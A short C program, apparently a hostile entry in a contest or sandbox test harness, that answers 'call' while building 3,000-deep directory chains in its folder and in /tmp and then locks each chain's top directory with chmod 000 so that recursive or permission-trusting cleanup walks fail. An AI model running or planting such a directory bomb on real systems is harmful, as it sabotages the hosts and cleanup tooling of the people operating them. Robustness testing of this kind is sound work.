/* Attack: from the first decision on, a 3,000-deep folder chain in its folder and in /tmp, topped by a
 * chmod 000 folder, so a walk that recurses or trusts permissions breaks. Answers 0 (call). */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void chain(const char *where) {
    mkdir(where, 0755);
    chmod(where, 0755); /* locked by the decision before */
    int fd = open(where, O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < 3000 && fd >= 0; i++) {
        mkdirat(fd, "d", 0755);
        int deeper = openat(fd, "d", O_RDONLY | O_DIRECTORY);
        close(fd);
        fd = deeper;
    }
    if (fd >= 0) close(fd);
    chmod(where, 0);
}

int main(void) {
    chain("chain");
    chain("/tmp/chain");
    FILE *answer = fopen("outputf.txt", "w");
    if (answer) { fputs("0\n", answer); fclose(answer); }
    return 0;
}
